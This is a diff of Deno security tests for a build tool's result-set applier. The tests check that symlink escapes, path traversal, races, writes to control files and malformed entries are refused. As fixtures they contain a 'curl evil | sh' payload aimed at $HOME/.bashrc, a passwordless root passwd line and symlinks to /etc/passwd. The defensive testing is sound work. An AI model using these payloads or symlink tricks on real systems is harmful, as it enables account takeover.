@@ -10,10 +10,12 @@ function sha(bytes: Uint8Array): string {
   return createHash("sha256").update(bytes).digest("hex");
 }
 
+/** Every entry below `dir` (but the private directories of applies in flight). */
 async function snapshot(dir: string): Promise<string[]> {
   const out: string[] = [];
   const walk = async (d: string) => {
     for await (const e of Deno.readDir(d)) {
+      if (d === dir && e.name.startsWith(".termite-staging")) continue;
       const p = `${d}/${e.name}`;
       const info = await Deno.lstat(p);
       let extra = "";
@@ -280,5 +282,456 @@ Deno.test("applyResultSet() writes inline contents without a fetch, and refuses 
     );
     assert.deepEqual(await snapshot(root), before);
     assert.equal(fetches, 0);
+  });
+});
+
+// ---- Issue 11: symlinks, atomicity, control files, limits ----
+
+function fileEntry(path: string, bytes: Uint8Array, mode = 0o644) {
+  return { path, hash: sha(bytes), size: bytes.length, mode, mtimeMs: 0 };
+}
+
+function emptySet(): ResultSet {
+  return { deletions: [], dirs: [], files: [], symlinks: [] };
+}
+
+/** Applies `set` with contents from `contents` (fetched); the error, if any. */
+async function tryApply(
+  root: string,
+  set: unknown,
+  contents: Uint8Array[] = [],
+  extra: Partial<Parameters<typeof applyResultSet>[1]> = {},
+): Promise<Error | null> {
+  const blobs = new Map(contents.map((c) => [sha(c), c]));
+  const cache = extra.hashCache ?? await HashCache.open();
+  try {
+    await applyResultSet(set, {
+      writableRoot: root,
+      fetchBlob: fetcherFor(blobs),
+      hashCache: cache,
+      ...extra,
+    });
+    return null;
+  } catch (err) {
+    return err as Error;
+  } finally {
+    if (!extra.hashCache) await cache.close();
+  }
+}
+
+async function withOutside<T>(fn: (outside: string) => Promise<T>): Promise<T> {
+  const outside = await Deno.realPath(await Deno.makeTempDir({ prefix: "termite-outside-" }));
+  try {
+    return await fn(outside);
+  } finally {
+    await Deno.remove(outside, { recursive: true });
+  }
+}
+
+Deno.test("applyResultSet() refuses the $HOME/.bashrc attack (a symlink to a directory, then a link below it)", async () => {
+  await withTree(async (root) => {
+    await withOutside(async (home) => {
+      await Deno.writeTextFile(`${home}/.bashrc`, "# mine\n");
+      const payload = enc.encode("curl evil | sh\n");
+      const before = await snapshot(root);
+      const err = await tryApply(root, {
+        deletions: [],
+        dirs: [],
+        files: [fileEntry(`${root}/payload.sh`, payload, 0o755)],
+        symlinks: [
+          { path: `${root}/a`, target: home },
+          { path: `${root}/a/.bashrc`, target: `${root}/payload.sh` },
+        ],
+      }, [payload]);
+      assert.ok(err instanceof ResultSetError, String(err));
+      assert.match(err.message, /below .*\/a, a file or symlink of the same set/);
+      assert.equal((await Deno.lstat(`${home}/.bashrc`)).isFile, true);
+      assert.equal(await Deno.readTextFile(`${home}/.bashrc`), "# mine\n");
+      assert.deepEqual(await snapshot(root), before);
+    });
+  });
+});
+
+Deno.test("applyResultSet() refuses a symlink to outside and links and directories below it (nothing appears outside)", async () => {
+  await withTree(async (root) => {
+    await withOutside(async (outside) => {
+      const before = await snapshot(root);
+      const err = await tryApply(root, {
+        deletions: [],
+        dirs: [],
+        files: [],
+        symlinks: [
+          { path: `${root}/a`, target: outside },
+          { path: `${root}/a/b`, target: "x" },
+          { path: `${root}/a/c/d`, target: "y" },
+        ],
+      });
+      assert.ok(err instanceof ResultSetError, String(err));
+      assert.deepEqual([...Deno.readDirSync(outside)], []);
+      assert.deepEqual(await snapshot(root), before);
+    });
+  });
+});
+
+Deno.test("applyResultSet() refuses a symlink to outside plus a file below it whole, with a clear error (no raw EISDIR, nothing left)", async () => {
+  await withTree(async (root) => {
+    await withOutside(async (outside) => {
+      const passwd = enc.encode("root::0:0::/:/bin/sh\n");
+      const before = await snapshot(root);
+      const err = await tryApply(root, {
+        deletions: [],
+        dirs: [],
+        files: [fileEntry(`${root}/a/passwd`, passwd)],
+        symlinks: [{ path: `${root}/a`, target: outside }],
+      }, [passwd]);
+      assert.ok(err instanceof ResultSetError, String(err));
+      assert.match(err.message, /^Refusing result set: /);
+      assert.deepEqual(await snapshot(root), before);
+      assert.deepEqual([...Deno.readDirSync(outside)], []);
+    });
+  });
+});
+
+for (const withDirEntry of [false, true]) {
+  Deno.test(
+    `applyResultSet() races: a set stalled in its fetch of d/x while another replaces d by a symlink to an outside 0700 dir writes nothing outside (${
+      withDirEntry ? "with" : "without"
+    } a mode for d), and undoes what it did`,
+    async () => {
+      await withTree(async (root) => {
+        await withOutside(async (outside) => {
+          await Deno.writeTextFile(`${outside}/secret`, "s3cret\n");
+          await Deno.mkdir(`${root}/d`);
+          await Deno.chmod(`${root}/d`, 0o755);
+          await Deno.writeTextFile(`${root}/d/keep`, "keep\n");
+          const x = enc.encode("\x7fELF slow object");
+          const newA = enc.encode("int a = 2;\n");
+          const fetching = Promise.withResolvers<void>();
+          const gate = Promise.withResolvers<void>();
+          const cache = await HashCache.open();
+          const first = applyResultSet({
+            deletions: [`${root}/src/old.o`],
+            dirs: [
+              { path: `${root}/fresh`, mode: 0o755 },
+              ...(withDirEntry ? [{ path: `${root}/d`, mode: 0o755 }] : []),
+            ],
+            files: [
+              fileEntry(`${root}/fresh/n.o`, newA),
+              fileEntry(`${root}/src/a.c`, newA),
+              fileEntry(`${root}/d/x`, x),
+            ],
+            symlinks: [],
+          }, {
+            writableRoot: root,
+            hashCache: cache,
+            inline: (hash) => hash === sha(newA) ? newA : undefined,
+            fetchBlob: async (hash, sink) => {
+              assert.equal(hash, sha(x));
+              fetching.resolve();
+              await gate.promise;
+              await sink.write(x);
+            },
+          });
+          first.catch(() => {}); // awaited below
+          await fetching.promise;
+          // Meanwhile another job's result replaces d by a symlink to the outside dir.
+          await applyResultSet({
+            deletions: [`${root}/d`],
+            dirs: [],
+            files: [],
+            symlinks: [{ path: `${root}/d`, target: outside }],
+          }, { writableRoot: root, hashCache: cache, fetchBlob: fetcherFor(new Map()) });
+          const between = await snapshot(root);
+          gate.resolve();
+          await assert.rejects(first, ResultSetError);
+          assert.deepEqual((await Array.fromAsync(Deno.readDir(outside))).map((e) => e.name), [
+            "secret",
+          ]);
+          assert.equal((await Deno.stat(outside)).mode! & 0o7777, 0o700);
+          assert.deepEqual(await snapshot(root), between, "the stalled set left nothing behind");
+          assert.deepEqual(
+            [...Deno.readDirSync(root)].filter((e) => e.name.startsWith(".termite-staging")),
+            [],
+          );
+          await cache.close();
+        });
+      });
+    },
+  );
+}
+
+Deno.test("applyResultSet() undoes deletions, new directories and replaced files when a later entry fails in the tree", async () => {
+  await withTree(async (root) => {
+    const obj = enc.encode("\x7fELF");
+    const newA = enc.encode("int a = 3;\n");
+    await Deno.chmod(`${root}/src/sub`, 0o750);
+    const before = await snapshot(root);
+    const err = await tryApply(root, {
+      deletions: [`${root}/src/old.o`, `${root}/src/sub`],
+      dirs: [{ path: `${root}/build`, mode: 0o755 }, { path: `${root}/src`, mode: 0o700 }],
+      files: [fileEntry(`${root}/build/deep/a.o`, obj), fileEntry(`${root}/src/a.c`, newA)],
+      symlinks: [
+        { path: `${root}/build/l`, target: "deep/a.o" },
+        // Fails in the tree only: its parent is a symlink there.
+        { path: `${root}/src/out/z`, target: "a" },
+      ],
+    }, [obj, newA]);
+    assert.ok(err instanceof ResultSetError, String(err));
+    assert.match(err.message, /src\/out\/z: .*symlink on the way/);
+    assert.deepEqual(await snapshot(root), before);
+  });
+});
+
+Deno.test("applyResultSet() refuses a directory entry over an existing symlink to outside (the outside mode is kept)", async () => {
+  await withTree(async (root) => {
+    const outside = await Deno.readLink(`${root}/src/out`);
+    const modeBefore = (await Deno.stat(outside)).mode! & 0o7777;
+    const before = await snapshot(root);
+    const err = await tryApply(root, {
+      ...emptySet(),
+      dirs: [{ path: `${root}/src/out`, mode: 0o777 }],
+    });
+    assert.ok(err instanceof ResultSetError, String(err));
+    assert.match(err.message, /would replace a symlink/);
+    assert.equal((await Deno.stat(outside)).mode! & 0o7777, modeBefore);
+    assert.deepEqual(await snapshot(root), before);
+  });
+});
+
+Deno.test("applyResultSet() deletes a symlink to outside itself, never its target", async () => {
+  await withTree(async (root) => {
+    const outside = await Deno.readLink(`${root}/src/out`);
+    await Deno.writeTextFile(`${outside}/precious`, "precious\n");
+    try {
+      assert.equal(await tryApply(root, { ...emptySet(), deletions: [`${root}/src/out`] }), null);
+      await assert.rejects(Deno.lstat(`${root}/src/out`), Deno.errors.NotFound);
+      assert.equal(await Deno.readTextFile(`${outside}/precious`), "precious\n");
+    } finally {
+      await Deno.remove(`${outside}/precious`);
+    }
+  });
+});
+
+Deno.test("applyResultSet() replaces a symlink to outside by a real directory when the set deletes it first", async () => {
+  await withTree(async (root) => {
+    const obj = enc.encode("\x7fELF");
+    const err = await tryApply(root, {
+      deletions: [`${root}/src/out`],
+      dirs: [{ path: `${root}/src/out`, mode: 0o755 }],
+      files: [fileEntry(`${root}/src/out/x.o`, obj)],
+      symlinks: [],
+    }, [obj]);
+    assert.equal(err, null);
+    assert.equal((await Deno.lstat(`${root}/src/out`)).isDirectory, true);
+    assert.deepEqual(await Deno.readFile(`${root}/src/out/x.o`), obj);
+  });
+});
+
+Deno.test("applyResultSet() refuses ..-ish and malformed deletions", async () => {
+  await withTree(async (root) => {
+    const before = await snapshot(root);
+    for (
+      const path of [
+        `${root}/..`,
+        `${root}/src/..`,
+        `${root}/src/../..`,
+        `${root}/.`,
+        `${root}/src/`,
+        `${root}//src`,
+        `${root}/src/./a.c`,
+        "",
+        "..",
+        root,
+        "/",
+      ]
+    ) {
+      const err = await tryApply(root, { ...emptySet(), deletions: [path] });
+      assert.ok(err instanceof ResultSetError, `${JSON.stringify(path)}: ${err}`);
+    }
+    assert.deepEqual(await snapshot(root), before);
+  });
+});
+
+Deno.test("applyResultSet() makes no hard links: every file written is its own inode", async () => {
+  await withTree(async (root) => {
+    const obj = enc.encode("\x7fELF shared bytes");
+    await Deno.writeFile(`${root}/src/known.o`, obj);
+    await Deno.utime(`${root}/src/known.o`, 1e9, 1e9); // not racy: cached
+    const cache = await HashCache.open();
+    // The master knows a file holding these bytes: it is copied, not linked.
+    await cache.hash(`${root}/src/known.o`, await Deno.stat(`${root}/src/known.o`));
+    assert.equal(
+      await tryApply(
+        root,
+        {
+          ...emptySet(),
+          files: [fileEntry(`${root}/one.o`, obj), fileEntry(`${root}/two.o`, obj)],
+        },
+        [],
+        { hashCache: cache },
+      ),
+      null,
+    );
+    const inodes = new Set<number>();
+    for (const name of ["src/known.o", "one.o", "two.o"]) {
+      const info = await Deno.lstat(`${root}/${name}`);
+      assert.equal(info.nlink, 1, name);
+      inodes.add(info.ino!);
+      assert.deepEqual(await Deno.readFile(`${root}/${name}`), obj);
+    }
+    assert.equal(inodes.size, 3);
+    await cache.close();
+  });
+});
+
+Deno.test("applyResultSet() never opens a FIFO where the hash cache knew a file (fetches instead)", async () => {
+  await withTree(async (root) => {
+    const obj = enc.encode("\x7fELF was here");
+    await Deno.writeFile(`${root}/src/was.o`, obj);
+    await Deno.utime(`${root}/src/was.o`, 1e9, 1e9);
+    const cache = await HashCache.open();
+    await cache.hash(`${root}/src/was.o`, await Deno.stat(`${root}/src/was.o`));
+    await Deno.remove(`${root}/src/was.o`);
+    const mkfifo = await new Deno.Command("mkfifo", { args: [`${root}/src/was.o`] }).output();
+    assert.equal(mkfifo.code, 0);
+    let fetched = 0;
+    await applyResultSet({ ...emptySet(), files: [fileEntry(`${root}/new.o`, obj)] }, {
+      writableRoot: root,
+      hashCache: cache,
+      fetchBlob: async (_hash, sink) => {
+        fetched++;
+        await sink.write(obj);
+      },
+    });
+    assert.equal(fetched, 1);
+    assert.deepEqual(await Deno.readFile(`${root}/new.o`), obj);
+    await cache.close();
+  });
+});
+
+Deno.test("applyResultSet() refuses to create, change or delete the master's own files", async () => {
+  await withTree(async (root) => {
+    await Deno.mkdir(`${root}/build/.cache`, { recursive: true });
+    await Deno.writeTextFile(`${root}/build/.cache/hashes.json`, "{}");
+    await Deno.writeTextFile(`${root}/.termite-socket`, "");
+    await Deno.writeTextFile(`${root}/.termite-localrc`, "[]");
+    const control = {
+      paths: [`${root}/.termite-socket`, `${root}/.termite-localrc`, `${root}/build/.cache`],
+      names: [".termite-socket"],
+    };
+    const rc = enc.encode(`[{"regexp": ".", "local": true}]`);
+    const cases: [string, Partial<ResultSet>, RegExp][] = [
+      [
+        "writing .termite-localrc",
+        { files: [fileEntry(`${root}/.termite-localrc`, rc)] },
+        /localrc/,
+      ],
+      ["deleting .termite-socket", { deletions: [`${root}/.termite-socket`] }, /termite-socket/],
+      [
+        "a symlink as .termite-socket",
+        { symlinks: [{ path: `${root}/.termite-socket`, target: "/tmp/x" }] },
+        /termite-socket/,
+      ],
+      [
+        "a .termite-socket in a subdirectory (wrappers look upwards)",
+        { files: [fileEntry(`${root}/src/.termite-socket`, rc)] },
+        /src\/\.termite-socket/,
+      ],
+      [
+        "a staging name",
+        { symlinks: [{ path: `${root}/.termite-staging-sync-1`, target: "/etc/passwd" }] },
+        /\.termite-staging-sync-1/,
+      ],
+      [
+        "a file in a staging directory",
+        { files: [fileEntry(`${root}/.termite-staging-x/f0`, rc)] },
+        /\.termite-staging-x/,
+      ],
+      [
+        "writing into the cache directory",
+        { files: [fileEntry(`${root}/build/.cache/hashes.json`, rc)] },
+        /build\/\.cache/,
+      ],
+      ["deleting the cache directory", { deletions: [`${root}/build/.cache`] }, /build\/\.cache/],
+      ["deleting its parent", { deletions: [`${root}/build`] }, /build\/\.cache/],
+    ];
+    const before = await snapshot(root);
+    for (const [name, part, why] of cases) {
+      const err = await tryApply(root, { ...emptySet(), ...part }, [rc], { control });
+      assert.ok(err instanceof ResultSetError, `${name}: ${err}`);
+      assert.match(err.message, /the master's own/, name);
+      assert.match(err.message, why, name);
+    }
+    assert.deepEqual(await snapshot(root), before);
+  });
+});
+
+Deno.test("applyResultSet() counts name lengths in UTF-8 bytes (NAME_BYTES_MAX) and refuses lone surrogates", async () => {
+  await withTree(async (root) => {
+    const obj = enc.encode("x");
+    const before = await snapshot(root);
+    for (
+      const [name, why] of [
+        ["é".repeat(200), /NAME_BYTES_MAX/],
+        ["a".repeat(256), /NAME_BYTES_MAX/],
+        ["😀".repeat(64), /NAME_BYTES_MAX/],
+        ["bad\ud800name", /Unicode/],
+      ] as const
+    ) {
+      const err = await tryApply(root, {
+        ...emptySet(),
+        files: [fileEntry(`${root}/${name}`, obj)],
+      }, [
+        obj,
+      ]);
+      assert.ok(err instanceof ResultSetError, String(err));
+      assert.match(err.message, why);
+    }
+    // At the limit: 127 × "é" + "a" is 255 bytes.
+    assert.equal(
+      await tryApply(root, {
+        ...emptySet(),
+        files: [fileEntry(`${root}/${"é".repeat(127)}a`, obj)],
+      }, [obj]),
+      null,
+    );
+    assert.equal(before.length + 1, (await snapshot(root)).length);
+  });
+});
+
+Deno.test("applyResultSet() refuses modes that are not integers in 0..0o7777", async () => {
+  await withTree(async (root) => {
+    const obj = enc.encode("x");
+    const before = await snapshot(root);
+    for (const mode of [-1, 1.5, 0o10000, NaN, Infinity, "644", null]) {
+      for (const kind of ["file", "dir"]) {
+        const set = kind === "file"
+          ? { ...emptySet(), files: [{ ...fileEntry(`${root}/m.o`, obj), mode }] }
+          : { ...emptySet(), dirs: [{ path: `${root}/m`, mode }] };
+        const err = await tryApply(root, set, [obj]);
+        assert.ok(err instanceof ResultSetError, `${kind} mode ${mode}: ${err}`);
+        assert.match(err.message, /mode|bad/);
+      }
+    }
+    assert.deepEqual(await snapshot(root), before);
+  });
+});
+
+Deno.test("applyResultSet() takes RESULT_ENTRIES_MAX entries, the worker's limit too, and refuses one more by name", async () => {
+  const { RESULT_ENTRIES_MAX } = await import("../common/types.ts");
+  const sandbox = await import("../sandbox/result_set.ts");
+  assert.equal(sandbox.RESULT_ENTRIES_MAX, RESULT_ENTRIES_MAX);
+  await withTree(async (root) => {
+    // The last entry is refused for itself (a bad hash), after the count passed.
+    const set = (entries: number) => ({
+      ...emptySet(),
+      deletions: Array.from({ length: entries - 1 }, (_, i) => `${root}/gone${i}`),
+      files: [{ path: `${root}/last.o`, hash: "bad", size: 1, mode: 0o644, mtimeMs: 0 }],
+    });
+    const atLimit = await tryApply(root, set(RESULT_ENTRIES_MAX));
+    assert.match(String(atLimit), /bad hash/);
+    const past = await tryApply(root, set(RESULT_ENTRIES_MAX + 1));
+    assert.ok(past instanceof ResultSetError);
+    assert.match(past.message, /200001 entries, more than RESULT_ENTRIES_MAX \(200000\)/);
   });
 });
